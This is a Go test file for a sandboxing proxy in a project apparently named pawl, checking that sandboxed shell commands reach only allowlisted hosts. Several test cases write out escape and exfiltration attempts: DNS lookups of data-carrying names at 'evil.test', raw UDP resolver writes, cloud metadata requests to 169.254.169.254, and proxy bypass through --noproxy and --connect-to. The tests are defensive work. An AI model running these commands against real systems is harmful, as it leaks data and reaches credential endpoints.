package proxy

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/pawl-dev/pawl/internal/security/sandbox"
)

// TestSandbox: a command in the real sandbox reaches what was named and nothing
// else, by no way.
func TestSandbox(t *testing.T) {
	t.Parallel()
	backend, report := sandbox.Detect(t.Context())
	if backend.Name() != "bubblewrap" {
		t.Fatalf("there is no sandbox with a network here: %+v", report)
	}
	t.Cleanup(sandbox.Release)
	for _, test := range []struct {
		name, script string
		want         string   // in the output
		trace        []string // what has left the machine
	}{
		{"a host that was named", `curl -sS https://ok.test/a`, "hello from ok.test", []string{"look ok.test", "dial 93.184.216.10:443", "hit 93.184.216.10 ok.test ok.test/a"}},
		{"plain where that was named", `curl -sS http://x.test/a`, "hello from x.test", []string{"look x.test", "dial 93.184.216.10:80", "hit 93.184.216.10 plain x.test/a"}},
		{"a host that was not", `curl -sSv https://evil.test/`, "403 pawl: evil.test is not one of the hosts that this command may reach: ok.test, x.test:80", nil},
		{"plain to a host that was not", `curl -sS http://evil.test/`, "pawl: evil.test is not one of the hosts that this command may reach: ok.test, x.test:80\nAsk the user to allow evil.test.", nil},
		{"plain to a host that is for TLS", `curl -sS http://ok.test/`, "pawl: plain http is not allowed: use https://ok.test/", nil},
		{"E1 a name that carries data", `getent ahosts secret.evil.test; curl -sS --noproxy '*' https://secret.evil.test/; nslookup secret.evil.test 9.9.9.9; echo "code $?"`, "code ", nil},
		{"E1 a question to the resolver", `exec 3<>/dev/udp/9.9.9.9/53 && echo question >&3`, "", nil},
		{"E5 metadata", `curl -sS --max-time 5 http://169.254.169.254/latest/meta-data/; curl -sS --max-time 5 --noproxy '*' http://169.254.169.254/`, "pawl: 169.254.169.254 is not one of", nil},
		{"past the proxy, by address", `curl -sS --max-time 5 --noproxy '*' -k https://93.184.216.10/`, "curl: (7)", nil},
		{"another host behind the same front", `curl -sS -k --resolve evil.test:443:127.0.0.1 --connect-to evil.test:443:ok.test:443 https://evil.test/`, "curl: (35)", []string{"look ok.test", "dial 93.184.216.10:443"}},
		{"a redirect to a host that was not named", `curl -sS -L http://x.test/to`, "pawl: evil.test is not one of", []string{"look x.test", "dial 93.184.216.10:80", "hit 93.184.216.10 plain x.test/to"}},
		{"a name and a password", `curl -sS -U user:secret https://ok.test/b`, "hello from ok.test", []string{"look ok.test", "dial 93.184.216.10:443", "hit 93.184.216.10 ok.test ok.test/b"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			w := newTestEnv(t, "ok.test", "x.test:80")
			output := w.runSandboxed(backend, test.script)
			if !strings.Contains(output, test.want) {
				t.Errorf("got %q, want %q", output, test.want)
			}
			if diff := cmp.Diff(test.trace, w.trace()); diff != "" {
				t.Errorf("what has left the machine: %s", diff)
			}
			reached := slices.ContainsFunc(w.reported(), func(d Decision) bool { return d.Allowed })
			if reached != slices.ContainsFunc(test.trace, func(s string) bool { return strings.HasPrefix(s, "hit") }) {
				t.Errorf("told: %+v", w.reported())
			}
		})
	}
}

// runSandboxed runs a script in the sandbox, with the proxy, and returns its output.
func (w *testEnv) runSandboxed(backend sandbox.Backend, script string) string {
	w.t.Helper()
	dir := filepath.Join(w.t.TempDir(), "ws")
	if err := os.Mkdir(dir, 0o755); err != nil {
		w.t.Fatal(err)
	}
	ca := filepath.Join(dir, "ca.pem")
	if err := os.WriteFile(ca, w.net.Authority(), 0o644); err != nil {
		w.t.Fatal(err)
	}
	wrapped, err := backend.Wrap([]string{"bash", "-c", script}, sandbox.Profile{Dir: dir, ProxySocket: w.proxy.Socket(), Env: []string{"CURL_CA_BUNDLE=" + ca}})
	if err != nil {
		w.t.Fatal(err)
	}
	defer wrapped.Close()
	var out bytes.Buffer
	cmd := exec.CommandContext(w.t.Context(), wrapped.Args[0], wrapped.Args[1:]...)
	cmd.Env, cmd.ExtraFiles = wrapped.Env, wrapped.Files
	cmd.Stdout, cmd.Stderr = &out, &out
	_ = cmd.Run() // its output tells
	return out.String()
}
